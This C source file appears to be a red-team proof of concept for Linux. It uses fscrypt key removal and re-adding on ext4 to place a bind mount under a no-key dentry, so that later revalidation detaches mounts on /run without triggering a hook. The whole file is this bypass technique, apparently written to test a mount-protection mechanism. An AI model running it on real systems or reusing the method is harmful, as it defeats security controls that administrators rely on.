// SPDX-License-Identifier: GPL-2.0
/*
 * nokey.c - `ratchet-nokey MNT TARGET`: red team 5 (written by reading,
 * not run yet). On the ext4 mounted at MNT (made with -O encrypt), puts a
 * bind of a directory whose dentry has no d_revalidate, but whose PARENT
 * dentry is a no-key name (DCACHE_NOKEY_NAME, fscrypt_d_revalidate()), on
 * TARGET (/run), and prints that parent's path. After the encryption key
 * is added back, the first lookup of that path fails revalidation
 * (fscrypt_d_revalidate() returns 0 once the directory has its key,
 * fs/crypto/fname.c) and lookup_fast() d_invalidate()s it, which detaches
 * every mount on a dentry below it (fs/dcache.c), with no hook.
 *
 * 6.1: ext4 sets d_op per dentry, fscrypt's only on no-key names
 * (ext4_lookup_entry() -> generic_set_encrypted_ci_d_ops(), fs/libfs.c),
 * so a plaintext child made with the key has none. 6.12 and 7.2 set
 * sb->s_d_op (generic_set_sb_d_ops(), 6.7+) on every ext4 dentry.
 *
 * Steps: key added, v2 policy on MNT/e, MNT/e/d made, key removed (the
 * inodes go); MNT/e/<no-key name of d> opened O_PATH (a no-key dentry);
 * key added again; mkdirat(fd, "child") (a plaintext name, key present);
 * open_tree(fd, "child", OPEN_TREE_CLONE) moved onto TARGET. The fd path
 * walks never look the no-key name up again (nothing revalidates it).
 * Prints the no-key path on stdout. Exit 0 done, 1 the kernel refused a
 * step, 2 other.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <linux/fscrypt.h>
#include <linux/mount.h>

static int fail(const char *what)
{
	fprintf(stderr, "nokey: %s: %s\n", what, strerror(errno));
	return errno == EPERM || errno == EACCES || errno == EINVAL ||
			       errno == EOPNOTSUPP || errno == ENOTTY
		       ? 1
		       : 2;
}

static unsigned char raw[64];

/* Add the key to the file system of @fd; its identifier into @id. */
static int add_key(int fd, __u8 id[FSCRYPT_KEY_IDENTIFIER_SIZE])
{
	struct fscrypt_add_key_arg *a = calloc(1, sizeof(*a) + sizeof(raw));

	if (!a)
		return -1;
	a->key_spec.type = FSCRYPT_KEY_SPEC_TYPE_IDENTIFIER;
	a->raw_size = sizeof(raw);
	memcpy(a->raw, raw, sizeof(raw));
	if (ioctl(fd, FS_IOC_ADD_ENCRYPTION_KEY, a)) {
		free(a);
		return -1;
	}
	memcpy(id, a->key_spec.u.identifier, FSCRYPT_KEY_IDENTIFIER_SIZE);
	free(a);
	return 0;
}

int main(int argc, char **argv)
{
	struct fscrypt_policy_v2 pol = {
		.version = FSCRYPT_POLICY_V2,
		.contents_encryption_mode = FSCRYPT_MODE_AES_256_XTS,
		.filenames_encryption_mode = FSCRYPT_MODE_AES_256_CTS,
		.flags = FSCRYPT_POLICY_FLAGS_PAD_32,
	};
	struct fscrypt_remove_key_arg rm = {};
	char e[4096], path[4096 + 300], name[256] = "";
	__u8 id[FSCRYPT_KEY_IDENTIFIER_SIZE];
	struct dirent *de;
	int root, efd, d, t;
	DIR *dir;

	if (argc != 3) {
		fprintf(stderr, "usage: ratchet-nokey MNT TARGET\n");
		return 2;
	}
	memset(raw, 0x5a, sizeof(raw));
	snprintf(e, sizeof(e), "%s/e", argv[1]);
	if ((root = open(argv[1], O_RDONLY | O_DIRECTORY)) < 0)
		return fail("open MNT");
	if (add_key(root, id))
		return fail("FS_IOC_ADD_ENCRYPTION_KEY");
	if (mkdir(e, 0700) || (efd = open(e, O_RDONLY | O_DIRECTORY)) < 0)
		return fail("mkdir MNT/e");
	memcpy(pol.master_key_identifier, id, sizeof(id));
	if (ioctl(efd, FS_IOC_SET_ENCRYPTION_POLICY, &pol))
		return fail("FS_IOC_SET_ENCRYPTION_POLICY");
	if (mkdirat(efd, "d", 0700))
		return fail("mkdir MNT/e/d");
	close(efd);
	sync();
	rm.key_spec.type = FSCRYPT_KEY_SPEC_TYPE_IDENTIFIER;
	memcpy(rm.key_spec.u.identifier, id, sizeof(id));
	if (ioctl(root, FS_IOC_REMOVE_ENCRYPTION_KEY, &rm))
		return fail("FS_IOC_REMOVE_ENCRYPTION_KEY");
	if (rm.removal_status_flags)
		fprintf(stderr,
			"nokey: key removal status 0x%x (files busy?)\n",
			rm.removal_status_flags);
	/* The one entry of e, by its no-key name. */
	if (!(dir = opendir(e)))
		return fail("opendir MNT/e");
	while ((de = readdir(dir)))
		if (strcmp(de->d_name, ".") && strcmp(de->d_name, ".."))
			snprintf(name, sizeof(name), "%s", de->d_name);
	closedir(dir);
	if (!name[0] || !strcmp(name, "d")) {
		fprintf(stderr, "nokey: MNT/e lists '%s', not a no-key name\n",
			name);
		return 2;
	}
	snprintf(path, sizeof(path), "%s/%s", e, name);
	if ((d = open(path, O_PATH | O_DIRECTORY)) < 0)
		return fail("open the no-key directory");
	if (add_key(root, id))
		return fail("FS_IOC_ADD_ENCRYPTION_KEY again");
	if (mkdirat(d, "child", 0755))
		return fail("mkdirat(no-key dir, child)");
	t = syscall(SYS_open_tree, d, "child",
		    OPEN_TREE_CLONE | AT_NO_AUTOMOUNT);
	if (t < 0)
		return fail("open_tree(child)");
	if (syscall(SYS_move_mount, t, "", AT_FDCWD, argv[2],
		    MOVE_MOUNT_F_EMPTY_PATH))
		return fail("move_mount onto TARGET");
	printf("%s\n", path);
	return 0;
}
